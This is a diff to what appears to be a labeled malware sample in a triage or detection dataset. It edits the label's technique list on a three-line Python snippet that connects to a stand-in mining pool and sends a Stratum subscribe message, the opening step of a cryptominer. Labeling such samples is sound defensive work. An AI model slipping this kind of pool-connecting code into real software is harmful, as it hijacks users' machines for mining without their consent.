@@ -1,4 +1,4 @@
-# label: malicious family=miner techniques=T1496,T1095 lines=3-5
+# label: malicious family=miner techniques=T1496 lines=3-5
 import socket, json
 s = socket.create_connection(("pool.coinmine.example", 3333))
 s.sendall((json.dumps({"id": 1, "method": "mining.subscribe", "params": ["pytriage/1.0"]}) + "\n").encode())
